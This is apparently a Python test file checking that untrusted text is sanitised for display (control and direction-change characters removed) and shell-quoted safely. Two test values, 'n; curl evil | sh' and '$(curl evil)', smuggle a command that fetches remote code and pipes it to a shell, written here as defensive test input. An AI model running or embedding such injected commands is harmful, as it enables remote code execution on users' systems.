"""Text that comes from others, where it is shown and where it is copied."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clusterdojo.untrusted import MOST_ITEMS, one_line, quoted, showable, terminal

TEXT = st.text(st.characters(codec=None, exclude_categories=()))


@given(TEXT)
def test_what_is_shown_can_be_written_and_turns_no_line(text: str) -> None:
    """No control character, no lone surrogate, no change of direction; the length stays."""
    shown = showable(text)
    assert len(shown) == len(text)
    shown.encode("utf-8")
    assert not {*map(chr, range(0x20)), *"\x7f\x9b\u202e\u2066"} & set(shown) - set("\t\r\n")
    assert "\r" not in terminal(text)
    assert one_line(text, 10**6).splitlines() in ([], [one_line(text, 10**6)])


@given(TEXT, st.integers(2, 40))
def test_what_is_quoted_is_one_word_of_a_shell(text: str, most: int) -> None:
    """Whatever stands in it: copied, it is what was shown."""
    assert shlex.split(quoted(text, most)) == [one_line(text, most)]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("node01", "node01"),
        (3, "3"),
        (["node01", "node02"], "node01, node02"),
        ("n; curl evil | sh", "'n; curl evil | sh'"),
        (["a", "$(curl evil)"], "a, '$(curl evil)'"),
        ("it's", """'it'"'"'s'"""),
        ("", "''"),
        ([], ""),
    ],
)
def test_plain_values_are_shown_as_they_are(value: str | int | list[str], shown: str) -> None:
    """What a shell takes for a word needs no marks."""
    assert quoted(value, 40) == shown


def test_a_list_without_end_is_cut() -> None:
    """As a text is."""
    assert quoted(["x"] * 10**6, 5).count("x") == MOST_ITEMS
